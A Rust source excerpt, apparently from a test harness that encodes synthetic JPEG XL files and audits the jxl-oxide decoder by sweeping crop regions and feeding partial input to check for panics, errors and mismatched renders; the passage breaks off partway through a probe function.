        // HfMetadata
        let nb = lbw * lbh;
        let nbits = (nb as usize).next_power_of_two().trailing_zeros() as usize;
        g.bits((nb - 1) as u64, nbits);
        write_modular_header(g);
        let cfl = lf_w.div_ceil(64) * lf_h.div_ceil(64);
        for _ in 0..2 * cfl { write_value(g, 0); }
        for _ in 0..nb { write_value(g, 0); } // DCT8
        for y in 0..lbh { for x in 0..lbw { write_value(g, pack_signed(v.hf_mul[((by0 + y) * bw + bx0 + x) as usize])); } }
        for y in 0..lbh { for x in 0..lbw { write_value(g, pack_signed(v.sharpness[((by0 + y) * bw + bx0 + x) as usize])); } }
    };

    let write_hf_global = |g: &mut BitWriter| {
        g.bool(true); // default dequant matrices
        let nbits = (num_groups as usize).next_power_of_two().trailing_zeros() as usize;
        g.bits(0, nbits); // num_hf_presets = 1
        for _ in 0..f.num_passes {
            g.sel(2, 0, 0); // used_orders = 0
            write_entropy_header(g, 495 * 15);
        }
    };

    let cshift = f.upsampling.trailing_zeros();
    let write_pass_group = |g: &mut BitWriter, pass: u32, gi: u32| {
        let (gx, gy) = (gi % gcols, gi / gcols);
        let bx0 = gx * group_dim / 8;
        let by0 = gy * group_dim / 8;
        let gbw = (bw - bx0).min(group_dim / 8);
        let gbh = (bh - by0).min(group_dim / 8);
        for y in 0..gbh { for x in 0..gbw {
            let b = ((by0 + y) * bw + bx0 + x) as usize;
            for c in [1usize, 0, 2] {
                let list: &[(u8, i32)] = if pass == v.hf_pass { &v.hf[c][b] } else { &[] };
                write_value(g, list.len() as u32);
                let mut it = list.iter().peekable();
                let mut pos = 1u8;
                while it.peek().is_some() {
                    let &(p, val) = *it.peek().unwrap();
                    assert!(p >= pos && p <= 63 && val != 0);
                    if p == pos { write_value(g, pack_signed(val)); it.next(); } else { write_value(g, 0); }
                    pos += 1;
                }
            }
        }}
        // Modular part: extra channels that are not global (last pass only)
        if pass + 1 == f.num_passes {
            let mut any = false;
            let mut body = BitWriter::new();
            for i in first_nonglobal..dims.len() {
                let (w_, h_) = dims[i];
                let s_ = f.ec_upsampling[i].trailing_zeros() + img.ec[i].dim_shift - cshift;
                assert!(s_ < 3, "lf-group channels unsupported");
                let gw = group_dim >> s_;
                let (x0, y0) = (gx * gw, gy * gw);
                if x0 >= w_ || y0 >= h_ { continue; }
                let (x1, y1) = ((x0 + gw).min(w_), (y0 + gw).min(h_));
                any = true;
                for y in y0..y1 { for x in x0..x1 { write_value(&mut body, pack_signed(f.channels[i][(y * w_ + x) as usize])); } }
            }
            if any {
                write_modular_header(g);
                let n = body.nbits();
                let bytes = body.finish();
                for i in 0..n { g.bits(((bytes[i / 8] >> (i % 8)) & 1) as u64, 1); }
            }
        }
    };

    let mut sections: Vec<Vec<u8>> = Vec::new();
    if single {
        let mut g = BitWriter::new();
        write_lf_global(&mut g);
        write_lf_group(&mut g, 0);
        write_hf_global(&mut g);
        write_pass_group(&mut g, 0, 0);
        sections.push(g.finish());
    } else {
        let mut g = BitWriter::new(); write_lf_global(&mut g); sections.push(g.finish());
        for i in 0..num_lf_groups { let mut g = BitWriter::new(); write_lf_group(&mut g, i); sections.push(g.finish()); }
        let mut g = BitWriter::new(); write_hf_global(&mut g); sections.push(g.finish());
        for p in 0..f.num_passes { for gi in 0..num_groups { let mut g = BitWriter::new(); write_pass_group(&mut g, p, gi); sections.push(g.finish()); } }
    }
    let mut w = BitWriter::new();
    write_frame_header(&mut w, img, f);
    write_toc_and_sections(w, f, sections)
}

/// Section sizes in bitstream order are not returned; this helper gives the number of TOC entries of a frame.
pub fn toc_entries(img: &ImageSpec, f: &FrameSpec) -> usize {
    let group_dim = if f.vardct.is_some() { 256 } else { 128u32 << f.group_size_shift };
    let (cw, ch) = f.color_size(img);
    let num_groups = cw.div_ceil(group_dim) * ch.div_ceil(group_dim);
    let lf_dim = group_dim * 8;
    let num_lf_groups = cw.div_ceil(lf_dim) * ch.div_ceil(lf_dim);
    if num_groups == 1 && f.num_passes == 1 { 1 } else { (1 + num_lf_groups + 1 + num_groups * f.num_passes) as usize }
}

pub fn encode_image(img: &ImageSpec, frames: &[FrameSpec]) -> Vec<u8> {
    encode_image_ex(img, None, frames).0
}

/// Returns (codestream, byte offsets: [end of headers, start of each frame..., end]).
pub fn encode_image_ex(img: &ImageSpec, preview: Option<&FrameSpec>, frames: &[FrameSpec]) -> (Vec<u8>, Vec<usize>) {
    let mut w = BitWriter::new();
    write_image_header(&mut w, img);
    if let Some(icc) = &img.icc {
        write_icc(&mut w, icc);
    }
    w.pad();
    let mut out = w.finish();
    let mut marks = vec![out.len()];
    assert_eq!(img.preview.is_some(), preview.is_some());
    if let Some(p) = preview {
        out.extend(encode_frame(img, p));
        marks.push(out.len());
    }
    for f in frames {
        marks.push(out.len());
        out.extend(encode_frame(img, f));
    }
    marks.push(out.len());
    (out, marks)
}

// ---------- ICC ----------

fn icc_varint(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 { out.push(b); break; } else { out.push(b | 0x80); }
    }
}

fn icc_predict_header(idx: usize, output_size: u32, header: &[u8]) -> u8 {
    match idx {
        0..=3 => output_size.to_be_bytes()[idx],
        8 => 4,
        12..=23 => b"mntrRGB XYZ "[idx - 12],
        36..=39 => b"acsp"[idx - 36],
        41 | 42 if header[40] == b'A' => b'P',
        43 if header[40] == b'A' => b'L',
        41 if header[40] == b'M' => b'S',
        42 if header[40] == b'M' => b'F',
        43 if header[40] == b'M' => b'T',
        42 if header[40] == b'S' && header[41] == b'G' => b'I',
        43 if header[40] == b'S' && header[41] == b'G' => b' ',
        42 if header[40] == b'S' && header[41] == b'U' => b'N',
        43 if header[40] == b'S' && header[41] == b'U' => b'W',
        70 => 246,
        71 => 214,
        73 => 1,
        78 => 211,
        79 => 45,
        80..=83 => header[4 + idx - 80],
        _ => 0,
    }
}

/// The "encoded ICC stream" of the specification for a raw profile: header residuals, the tag table with explicit
/// tag names / offsets / sizes, the rest copied verbatim.
pub fn icc_encode_stream(icc: &[u8]) -> Vec<u8> {
    let n = icc.len();
    assert!(n > 132);
    let mut commands = Vec::new();
    let mut data = Vec::new();
    for i in 0..128 {
        let p = icc_predict_header(i, n as u32, &icc[..128]);
        data.push(icc[i].wrapping_sub(p));
    }
    let num_tags = u32::from_be_bytes([icc[128], icc[129], icc[130], icc[131]]) as usize;
    assert!(132 + 12 * num_tags <= n);
    icc_varint(&mut commands, num_tags as u64 + 1);
    for t in 0..num_tags {
        let e = &icc[132 + 12 * t..][..12];
        commands.push(1 | 64 | 128);
        data.extend_from_slice(&e[..4]);
        icc_varint(&mut commands, u32::from_be_bytes([e[4], e[5], e[6], e[7]]) as u64);
        icc_varint(&mut commands, u32::from_be_bytes([e[8], e[9], e[10], e[11]]) as u64);
    }
    commands.push(0);
    let rest = &icc[132 + 12 * num_tags..];
    if !rest.is_empty() {
        commands.push(1);
        icc_varint(&mut commands, rest.len() as u64);
        data.extend_from_slice(rest);
    }
    let mut out = Vec::new();
    icc_varint(&mut out, n as u64);
    icc_varint(&mut out, commands.len() as u64);
    out.extend(commands);
    out.extend(data);
    out
}

pub fn write_icc(w: &mut BitWriter, icc: &[u8]) {
    let enc = icc_encode_stream(icc);
    w.u64v(enc.len() as u64);
    write_entropy_header(w, 41);
    for &b in &enc {
        write_value(w, b as u32);
    }
}

// ---------- container ----------

pub fn make_box(ty: &[u8; 4], payload: &[u8], size_mode: u8) -> Vec<u8> {
    let mut out = Vec::new();
    match size_mode {
        0 => { out.extend(((payload.len() + 8) as u32).to_be_bytes()); out.extend(ty); }
        1 => { out.extend(1u32.to_be_bytes()); out.extend(ty); out.extend(((payload.len() + 16) as u64).to_be_bytes()); }
        _ => { out.extend(0u32.to_be_bytes()); out.extend(ty); }
    }
    out.extend(payload);
    out
}

pub fn container_prelude() -> Vec<u8> {
    let mut out = vec![0, 0, 0, 0x0c, b'J', b'X', b'L', b' ', 0x0d, 0x0a, 0x87, 0x0a];
    out.extend(make_box(b"ftyp", b"jxl \0\0\0\0jxl ", 0));
    out
}

pub fn jxlp_box(index: u32, last: bool, chunk: &[u8], size_mode: u8) -> Vec<u8> {
    let mut payload = (index | if last { 0x8000_0000 } else { 0 }).to_be_bytes().to_vec();
    payload.extend_from_slice(chunk);
    make_box(b"jxlp", &payload, size_mode)
}

/// A Brotli stream holding `data` in one uncompressed meta-block (data.len() in 1..=65536).
pub fn brotli_stored(data: &[u8]) -> Vec<u8> {
    assert!(!data.is_empty() && data.len() <= 65536);
    let mut w = BitWriter::new();
    w.bits(0, 1); // WBITS = 16
    w.bits(0, 1); // ISLAST = 0
    w.bits(0, 2); // MNIBBLES = 4
    w.bits((data.len() - 1) as u64, 16);
    w.bits(1, 1); // ISUNCOMPRESSED
    w.pad();
    w.append_aligned(data);
    w.bits(3, 2); // ISLAST, ISLASTEMPTY
    w.finish()
}

pub fn brob_box(inner_ty: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut payload = inner_ty.to_vec();
    payload.extend(brotli_stored(data));
    make_box(b"brob", &payload, 0)
}

// ---------- decode helpers ----------

pub use jxl_oxide::{CropInfo, JxlImage};

pub fn open(bytes: &[u8]) -> JxlImage {
    JxlImage::builder()
        .pool(jxl_threadpool::JxlThreadPool::none())
        .read(bytes)
        .expect("decode failed")
}

/// Render a keyframe, return per-channel planar f32 buffers as (width, height, samples).
pub fn render_planar(image: &JxlImage, keyframe: usize) -> Vec<(usize, usize, Vec<f32>)> {
    let r = image.render_frame(keyframe).expect("render failed");
    r.image_planar()
        .into_iter()
        .map(|fb| (fb.width(), fb.height(), fb.buf().to_vec()))
        .collect()
}

pub fn to_u8(v: f32) -> i32 {
    (v * 255.0).round() as i32
}

pub fn dump(label: &str, planes: &[(usize, usize, Vec<f32>)]) {
    println!("== {label}");
    for (c, (w, h, buf)) in planes.iter().enumerate() {
        println!("channel {c} ({w}x{h})");
        for y in 0..*h {
            let row: Vec<String> = (0..*w)
                .map(|x| format!("{:4}", to_u8(buf[y * w + x])))
                .collect();
            println!("  {}", row.join(""));
        }
    }
}

// ---------- audit F helpers ----------

pub fn panic_msg(p: Box<dyn std::any::Any + Send>) -> String {
    p.downcast_ref::<String>()
        .cloned()
        .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
        .unwrap_or_else(|| "<non-string panic>".into())
}

thread_local! {
    pub static LAST_PANIC_LOC: std::cell::RefCell<String> = std::cell::RefCell::new(String::new());
}

pub fn install_quiet_hook() {
    std::panic::set_hook(Box::new(|info| {
        let loc = info.location().map(|l| format!("{}:{}", l.file(), l.line())).unwrap_or_default();
        LAST_PANIC_LOC.with(|c| *c.borrow_mut() = loc);
    }));
}

#[derive(Debug, Clone)]
pub struct Finding {
    pub keyframe: usize,
    pub region: (u32, u32, u32, u32),
    pub what: String,
}

/// Render keyframe `k` with region; Ok(planes) or Err(panic message + location / error).
pub fn render_region(bytes: &[u8], k: usize, r: Option<(u32, u32, u32, u32)>) -> Result<Vec<(usize, usize, Vec<f32>)>, String> {
    let bytes = bytes.to_vec();
    let res = std::panic::catch_unwind(move || {
        let mut image = JxlImage::builder()
            .pool(jxl_threadpool::JxlThreadPool::none())
            .read(&bytes[..])
            .map_err(|e| format!("decode error: {e}"))?;
        if let Some((l, t, w, h)) = r {
            image.set_image_region(CropInfo { left: l, top: t, width: w, height: h });
        }
        let r = image.render_frame(k).map_err(|e| format!("render error: {e}"))?;
        Ok::<_, String>(r.image_planar().into_iter().map(|fb| (fb.width(), fb.height(), fb.buf().to_vec())).collect::<Vec<_>>())
    });
    match res {
        Ok(r) => r,
        Err(p) => {
            let loc = LAST_PANIC_LOC.with(|c| c.borrow().clone());
            Err(format!("PANIC '{}' at {}", panic_msg(p), loc))
        }
    }
}

pub fn num_keyframes(bytes: &[u8]) -> usize {
    open(bytes).num_loaded_keyframes()
}

/// Compare region render against crop of full render. Returns first difference.
pub fn compare_region(full: &[(usize, usize, Vec<f32>)], part: &[(usize, usize, Vec<f32>)], r: (u32, u32, u32, u32)) -> Option<String> {
    let (l, t, w, h) = (r.0 as usize, r.1 as usize, r.2 as usize, r.3 as usize);
    if full.len() != part.len() { return Some(format!("channel count {} vs {}", part.len(), full.len())); }
    for c in 0..full.len() {
        let (fw, _fh, fb) = &full[c];
        let (pw, ph, pb) = &part[c];
        if *pw != w || *ph != h { return Some(format!("channel {c}: size {pw}x{ph}, wanted {w}x{h}")); }
        let mut nd = 0; let mut first = None;
        for y in 0..h { for x in 0..w {
            let f = fb[(t + y) * fw + l + x]; let p = pb[y * pw + x];
            if !((f - p).abs() <= 1e-6) && !(f.is_nan() && p.is_nan()) {
                nd += 1;
                if first.is_none() { first = Some((l + x, t + y, f, p)); }
            }
        }}
        if let Some((x, y, f, p)) = first {
            return Some(format!("channel {c}: {nd} samples differ, first at image ({x},{y}): expected {f} (x255 = {:.3}) actual {p} (x255 = {:.3})", f * 255.0, p * 255.0));
        }
    }
    None
}

/// Sweep regions; returns findings grouped by message kind (digits removed) -> (count, first).
pub fn sweep(label: &str, bytes: &[u8], lefts: std::ops::Range<u32>, tops: std::ops::Range<u32>, widths: std::ops::Range<u32>, heights: std::ops::Range<u32>, img_w: u32, img_h: u32) -> usize {
    install_quiet_hook();
    let nk = match std::panic::catch_unwind(|| num_keyframes(bytes)) { Ok(n) => n, Err(p) => { println!("[{label}] open PANIC {}", panic_msg(p)); return 1; } };
    let mut total = 0usize;
    let mut tried = 0usize;
    let mut kinds: std::collections::BTreeMap<String, (usize, Finding)> = Default::default();
    for k in 0..nk {
        let full = match render_region(bytes, k, None) {
            Ok(f) => f,
            Err(e) => { println!("[{label}] keyframe {k}: FULL render failed: {e}"); total += 1; continue; }
        };
        for l in lefts.clone() { for t in tops.clone() { for w in widths.clone() { for h in heights.clone() {
            if l + w > img_w || t + h > img_h { continue; }
            tried += 1;
            let r = (l, t, w, h);
            let what = match render_region(bytes, k, Some(r)) {
                Ok(p) => match compare_region(&full, &p, r) { None => continue, Some(d) => d },
                Err(e) => e,
            };
            total += 1;
            let key: String = what.chars().filter(|c| !c.is_ascii_digit()).collect();
            let key = format!("kf{k} {}", key.split(" first at").next().unwrap());
            let e = kinds.entry(key).or_insert((0, Finding { keyframe: k, region: r, what: what.clone() }));
            e.0 += 1;
            // prefer the smallest region as representative
            if (r.2 * r.3, r.0 + r.1) < (e.1.region.2 * e.1.region.3, e.1.region.0 + e.1.region.1) { e.1 = Finding { keyframe: k, region: r, what }; }
        }}}}
    }
    println!("[{label}] {total} failing of {tried} region renders");
    for (k, (n, f)) in &kinds {
        println!("    [{n}x] {k}\n         e.g. keyframe {} region (l={},t={},w={},h={}): {}", f.keyframe, f.region.0, f.region.1, f.region.2, f.region.3, f.what);
    }
    total
}

pub mod sweep;
pub mod cases;

//! Audit G: partial-load / chunking sweeps over the public API of jxl-oxide.
use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};

use jxl_oxide::{AuxBoxData, CropInfo, InitializeResult, JxlImage, JxlThreadPool, UninitializedJxlImage};

use crate::{panic_msg, LAST_PANIC_LOC};

// ---------------------------------------------------------------------------------------------
// error classification

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrClass {
    /// `unexpected_eof()` is true
    Eof,
    /// "frame data is incomplete" / "not ready" kinds
    Incomplete,
    Other,
}

pub fn classify(e: &(dyn std::error::Error + 'static)) -> ErrClass {
    if let Some(e) = e.downcast_ref::<jxl_render::Error>() {
        if e.unexpected_eof() {
            return ErrClass::Eof;
        }
        return match e {
            jxl_render::Error::IncompleteFrame | jxl_render::Error::NotReady => ErrClass::Incomplete,
            _ => ErrClass::Other,
        };
    }
    if let Some(e) = e.downcast_ref::<jxl_frame::Error>() {
        return if e.unexpected_eof() { ErrClass::Eof } else { ErrClass::Other };
    }
    if let Some(e) = e.downcast_ref::<jxl_bitstream::Error>() {
        return if e.unexpected_eof() { ErrClass::Eof } else { ErrClass::Other };
    }
    if let Some(e) = e.downcast_ref::<jxl_color::Error>() {
        return if e.unexpected_eof() { ErrClass::Eof } else { ErrClass::Other };
    }
    if let Some(e) = e.downcast_ref::<jxl_oxide::jpeg_bitstream::Error>() {
        use jxl_oxide::jpeg_bitstream::Error as E;
        return match e {
            E::ReconstructionUnavailable | E::ReconstructionDataIncomplete | E::FrameDataIncomplete => ErrClass::Incomplete,
            E::Bitstream(b) if b.unexpected_eof() => ErrClass::Eof,
            E::FrameParse(f) if f.unexpected_eof() => ErrClass::Eof,
            _ => ErrClass::Other,
        };
    }
    if let Some(e) = e.downcast_ref::<std::io::Error>() {
        return if e.kind() == std::io::ErrorKind::UnexpectedEof { ErrClass::Eof } else { ErrClass::Other };
    }
    ErrClass::Other
}

// ---------------------------------------------------------------------------------------------
// findings

#[derive(Default)]
pub struct Findings {
    /// key (digits removed) -> (count, first example)
    pub kinds: BTreeMap<String, (usize, String)>,
    pub total: usize,
    pub stats: BTreeMap<String, usize>,
}

impl Findings {
    pub fn add(&mut self, ctx: &str, what: String) {
        self.total += 1;
        let key: String = what.chars().filter(|c| !c.is_ascii_digit()).collect();
        let key = key.chars().take(200).collect::<String>();
        let e = self.kinds.entry(key).or_insert((0, format!("{ctx}: {what}")));
        e.0 += 1;
    }
    pub fn stat(&mut self, what: &str) {
        *self.stats.entry(what.to_string()).or_insert(0) += 1;
    }
    pub fn report(&self, label: &str) {
        println!("[{label}] {} findings in {} kinds", self.total, self.kinds.len());
        println!("    stats: {:?}", self.stats);
        for (_, (n, ex)) in &self.kinds {
            println!("    [{n}x] {ex}");
        }
    }
    pub fn merge(&mut self, other: Findings) {
        for (k, (n, ex)) in other.kinds {
            let e = self.kinds.entry(k).or_insert((0, ex));
            e.0 += n;
        }
        self.total += other.total;
        for (k, n) in other.stats {
            *self.stats.entry(k).or_insert(0) += n;
        }
    }
}

/// Run `f` under catch_unwind; Err(description) on panic.
pub fn guarded<T>(f: impl FnOnce() -> T) -> Result<T, String> {
    match catch_unwind(AssertUnwindSafe(f)) {
        Ok(v) => Ok(v),
        Err(p) => {
            let loc = LAST_PANIC_LOC.with(|c| c.borrow().clone());
            Err(format!("PANIC '{}' at {}", panic_msg(p), loc))
        }
    }
}

// ---------------------------------------------------------------------------------------------
// snapshot of everything observable

#[derive(Clone, PartialEq, Debug)]
pub struct Planes {
    pub name: String,
    pub duration: u32,
    pub orientation: u32,
    pub planes: Vec<(usize, usize, Vec<u32>)>,
    /// interleaved all-channel buffer
    pub all: (usize, usize, usize, Vec<u32>),
    /// stream() output as f32 bits
    pub stream: (u32, u32, u32, Vec<u32>),
}

pub fn planes_of(r: &jxl_oxide::Render) -> Planes {
    let planes = r
        .image_planar()
        .into_iter()
        .map(|fb| (fb.width(), fb.height(), fb.buf().iter().map(|v| v.to_bits()).collect()))
        .collect();
    let all = r.image_all_channels();
    let all = (all.width(), all.height(), all.channels(), all.buf().iter().map(|v| v.to_bits()).collect());
    let mut st = r.stream();
    let (sw, sh, sc) = (st.width(), st.height(), st.channels());
    let mut buf = vec![0f32; (sw * sh * sc) as usize];
    st.write_to_buffer(&mut buf);
    Planes {
        name: r.name().to_string(),
        duration: r.duration(),
        orientation: r.orientation(),
        planes,
        all,
        stream: (sw, sh, sc, buf.iter().map(|v| v.to_bits()).collect()),
    }
}

pub fn diff_planes(a: &Planes, b: &Planes) -> Option<String> {
    if a.name != b.name || a.duration != b.duration || a.orientation != b.orientation {
        return Some(format!("render metadata: expected ({:?},{},{}) actual ({:?},{},{})", a.name, a.duration, a.orientation, b.name, b.duration, b.orientation));
    }
    if a.planes.len() != b.planes.len() {
        return Some(format!("channel count expected {} actual {}", a.planes.len(), b.planes.len()));
    }
    for (c, (pa, pb)) in a.planes.iter().zip(&b.planes).enumerate() {
        if pa.0 != pb.0 || pa.1 != pb.1 {
            return Some(format!("channel {c} size expected {}x{} actual {}x{}", pa.0, pa.1, pb.0, pb.1));
        }
        let mut nd = 0;
        let mut first = None;
        for (i, (x, y)) in pa.2.iter().zip(&pb.2).enumerate() {
            if x != y {
                nd += 1;
                if first.is_none() {
                    first = Some((i % pa.0, i / pa.0, f32::from_bits(*x), f32::from_bits(*y)));
                }
            }
        }
        if let Some((x, y, e, a)) = first {
            return Some(format!("channel {c}: {nd} samples differ, first at ({x},{y}): expected {e} (x255 = {:.3}) actual {a} (x255 = {:.3})", e * 255.0, a * 255.0));
        }
    }
    if a.all != b.all {
        return Some("image_all_channels() differs although image_planar() agrees".into());
    }
    if a.stream != b.stream {
        return Some("stream() differs although image_planar() agrees".into());
    }
    None
}

#[derive(Clone, PartialEq, Debug)]
pub struct Snapshot {
    pub header: String,
    pub size: (u32, u32),
    pub n_frames: usize,
    pub n_keyframes: usize,
    pub loading_done: bool,
    pub frame_offsets: Vec<Option<usize>>,
    pub frame_headers: Vec<String>,
    pub keyframe_headers: Vec<String>,
    pub renders: Vec<Result<Planes, String>>,
    pub rendered_icc: Vec<u8>,
    pub original_icc: Option<Vec<u8>>,
    pub pixel_format: String,
    pub cicp: Option<[u8; 4]>,
    pub hdr: String,
    pub exif: String,
    pub xml: String,
    pub jbrd: String,
}

fn aux_str<T: AsRef<[u8]>>(d: &AuxBoxData<T>) -> String {
    match d {
        AuxBoxData::Data(x) => format!("Data({:02x?})", x.as_ref()),
        AuxBoxData::Decoding => "Decoding".into(),
        AuxBoxData::NotFound => "NotFound".into(),
    }
}

pub fn exif_str(image: &JxlImage) -> String {
    match image.aux_boxes().first_exif() {
        Ok(AuxBoxData::Data(x)) => format!("Data(off {}, {:02x?})", x.tiff_header_offset(), x.payload()),
        Ok(AuxBoxData::Decoding) => "Decoding".into(),
        Ok(AuxBoxData::NotFound) => "NotFound".into(),
        Err(e) => format!("Err({e})"),
    }
}

pub fn snapshot(image: &JxlImage) -> Snapshot {
    let n_frames = image.num_loaded_frames();
    let n_keyframes = image.num_loaded_keyframes();
    Snapshot {
        header: format!("{:?}", image.image_header()),
        size: (image.width(), image.height()),
        n_frames,
        n_keyframes,
        loading_done: image.is_loading_done(),
        frame_offsets: (0..n_frames + 2).map(|i| image.frame_offset(i)).collect(),
        frame_headers: (0..n_frames + 2).map(|i| format!("{:?}", image.frame(i).map(|f| (f.index(), f.header())))).collect(),
        keyframe_headers: (0..n_keyframes + 2).map(|i| format!("{:?}", image.frame_header(i))).collect(),
        renders: (0..n_keyframes)
            .map(|k| match guarded(|| image.render_frame(k).map(|r| planes_of(&r)).map_err(|e| format!("{e}"))) {
                Ok(r) => r,
                Err(p) => Err(p),
            })
            .collect(),
        rendered_icc: image.rendered_icc(),
        original_icc: image.original_icc().map(|x| x.to_vec()),
        pixel_format: format!("{:?}", image.pixel_format()),
        cicp: image.rendered_cicp(),
        hdr: format!("{:?}", image.hdr_type()),
        exif: exif_str(image),
        xml: aux_str(&image.aux_boxes().first_xml()),
        jbrd: format!("{:?}", image.jpeg_reconstruction_status()),
    }
}

pub fn diff_snapshot(exp: &Snapshot, act: &Snapshot) -> Option<String> {
    macro_rules! cmp {
        ($f:ident) => {
            if exp.$f != act.$f {
                let e = format!("{:?}", exp.$f);
                let a = format!("{:?}", act.$f);
                let cut = |s: String| if s.len() > 300 { format!("{}...", &s[..300]) } else { s };
                return Some(format!("{} differs: expected {} actual {}", stringify!($f), cut(e), cut(a)));
            }
        };
    }
    cmp!(header);
    cmp!(size);
    cmp!(n_frames);
    cmp!(n_keyframes);
    cmp!(loading_done);
    cmp!(frame_offsets);
    cmp!(frame_headers);
    cmp!(keyframe_headers);
    if exp.renders.len() != act.renders.len() {
        return Some(format!("render count expected {} actual {}", exp.renders.len(), act.renders.len()));
    }
    for (k, (e, a)) in exp.renders.iter().zip(&act.renders).enumerate() {
        match (e, a) {
            (Ok(e), Ok(a)) => {
                if let Some(d) = diff_planes(e, a) {
                    return Some(format!("final render of keyframe {k}: {d}"));
                }
            }
            (Err(e), Err(a)) if e == a => {}
            (e, a) => {
                let s = |r: &Result<Planes, String>| match r {
                    Ok(_) => "Ok(render)".to_string(),
                    Err(e) => format!("Err({e})"),
                };
                return Some(format!("final render of keyframe {k}: expected {} actual {}", s(e), s(a)));
            }
        }
    }
    cmp!(rendered_icc);
    cmp!(original_icc);
    cmp!(pixel_format);
    cmp!(cicp);
    cmp!(hdr);
    cmp!(exif);
    cmp!(xml);
    cmp!(jbrd);
    None
}

// ---------------------------------------------------------------------------------------------
// incremental decoder honouring the feed_bytes contract

pub enum State {
    Uninit(UninitializedJxlImage),
    Init(Box<JxlImage>),
    Dead,
}

pub struct Session<'a> {
    pub data: &'a [u8],
    /// bytes consumed so far
    pub pos: usize,
    pub state: State,
    pub findings: Findings,
    pub label: String,
    /// true: treat a non-EOF error before the end of the data as a finding
    pub complete: bool,
}

pub fn new_pool(threads: usize) -> JxlThreadPool {
    if threads == 0 {
        JxlThreadPool::none()
    } else {
        JxlThreadPool::rayon(Some(threads))
    }
}

impl<'a> Session<'a> {
    pub fn new(label: &str, data: &'a [u8], pool: JxlThreadPool) -> Self {
        let uninit = JxlImage::builder().pool(pool).force_wide_buffers(std::env::var_os("AUDIT_WIDE").is_some()).build_uninit();
        Session { data, pos: 0, state: State::Uninit(uninit), findings: Findings::default(), label: label.to_string(), complete: false }
    }

    fn ctx(&self, upto: usize) -> String {
        format!("{} @{}/{}", self.label, upto, self.data.len())
    }

    /// Offer data[pos..upto] (repeatedly, as long as progress is made), then try_init if needed.
    /// Returns false if the session died (error or panic; already recorded).
    pub fn feed_to(&mut self, upto: usize) -> bool {
        let upto = upto.min(self.data.len());
        let ctx = self.ctx(upto);
        loop {
            if self.pos >= upto {
                break;
            }
            let chunk = &self.data[self.pos..upto];
            let state = std::mem::replace(&mut self.state, State::Dead);
            let (state, res) = match state {
                State::Uninit(mut u) => {
                    let r = guarded(|| u.feed_bytes(chunk).map_err(|e| (classify(&*e), format!("{e}"))));
                    (State::Uninit(u), r)
                }
                State::Init(mut i) => {
                    let r = guarded(|| i.feed_bytes(chunk).map_err(|e| (classify(&*e), format!("{e}"))));
                    (State::Init(i), r)
                }
                State::Dead => return false,
            };
            self.state = state;
            match res {
                Err(p) => {
                    self.findings.add(&ctx, format!("feed_bytes: {p}"));
                    self.state = State::Dead;
                    return false;
                }
                Ok(Err((class, msg))) => {
                    self.findings.add(&ctx, format!("feed_bytes error ({class:?}) on a prefix of a valid file: {msg}"));
                    self.state = State::Dead;
                    return false;
                }
                Ok(Ok(consumed)) => {
                    if consumed > chunk.len() {
                        self.findings.add(&ctx, format!("feed_bytes consumed {consumed} of {} offered bytes", chunk.len()));
                        self.state = State::Dead;
                        return false;
                    }
                    self.pos += consumed;
                    if consumed == 0 {
                        break;
                    }
                }
            }
        }
        // initialise
        if let State::Uninit(_) = &self.state {
            let State::Uninit(u) = std::mem::replace(&mut self.state, State::Dead) else { unreachable!() };
            let r = guarded(|| u.try_init().map_err(|e| (classify(&*e), format!("{e}"))));
            match r {
                Err(p) => {
                    self.findings.add(&ctx, format!("try_init: {p}"));
                    return false;
                }
                Ok(Err((class, msg))) => {
                    self.findings.add(&ctx, format!("try_init error ({class:?}) on a prefix of a valid file: {msg}"));
                    return false;
                }
                Ok(Ok(InitializeResult::NeedMoreData(u))) => { self.findings.stat("try_init NeedMoreData"); self.state = State::Uninit(u) }
                Ok(Ok(InitializeResult::Initialized(i))) => self.state = State::Init(Box::new(i)),
            }
        }
        true
    }

    pub fn image(&mut self) -> Option<&mut JxlImage> {
        match &mut self.state {
            State::Init(i) => Some(i),
            _ => None,
        }
    }
}

// ---------------------------------------------------------------------------------------------
// the probe: every accessor / render at an arbitrary moment

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ProbeOpts {
    pub accessors: bool,
    pub render_frames: bool,
    pub render_loading: bool,
    /// set_image_region to this before the loading render (and leave it set)
    pub crop: Option<(u32, u32, u32, u32)>,
    /// after everything, restore the full region
    pub restore_full: bool,
    pub jpeg: bool,
}

impl ProbeOpts {
    pub const NONE: ProbeOpts = ProbeOpts { accessors: false, render_frames: false, render_loading: false, crop: None, restore_full: false, jpeg: false };
    pub const READ: ProbeOpts = ProbeOpts { accessors: true, render_frames: true, render_loading: false, crop: None, restore_full: false, jpeg: true };
    pub const ALL: ProbeOpts = ProbeOpts { accessors: true, render_frames: true, render_loading: true, crop: None, restore_full: false, jpeg: true };
}

fn note_err(f: &mut Findings, ctx: &str, what: &str, e: &(dyn std::error::Error + 'static), complete: bool) {
    let class = classify(e);
    if class == ErrClass::Other || complete {
        f.add(ctx, format!("{what}: error of class {class:?}{}: {e}", if complete { " on the COMPLETE file" } else { "" }));
    }
}

/// Calls the public API at the current moment. `complete` = all bytes have been fed.
/// Returns false if a panic happened (the image should then be abandoned).
pub fn probe(image: &mut JxlImage, opts: ProbeOpts, ctx: &str, f: &mut Findings, complete: bool) -> bool {
    let mut ok = true;
    macro_rules! g {
        ($what:expr, $body:expr) => {
            match guarded(|| $body) {
                Ok(v) => Some(v),
                Err(p) => {
                    f.add(ctx, format!("{}: {}", $what, p));
                    ok = false;
                    None
                }
            }
        };
    }
    if opts.accessors {
        g!("image_header", format!("{:?}", image.image_header()));
        g!("width/height", (image.width(), image.height()));
        let nf = g!("num_loaded_frames", image.num_loaded_frames()).unwrap_or(0);
        let nk = g!("num_loaded_keyframes", image.num_loaded_keyframes()).unwrap_or(0);
        g!("is_loading_done", image.is_loading_done());
        for i in 0..nf + 3 {
            g!(format!("frame({i})"), image.frame(i).map(|fr| format!("{:?} {:?}", fr.index(), fr.header())));
            g!(format!("frame_offset({i})"), image.frame_offset(i));
        }
        for k in 0..nk + 3 {
            g!(format!("frame_header({k})"), image.frame_header(k).map(|h| format!("{h:?}")));
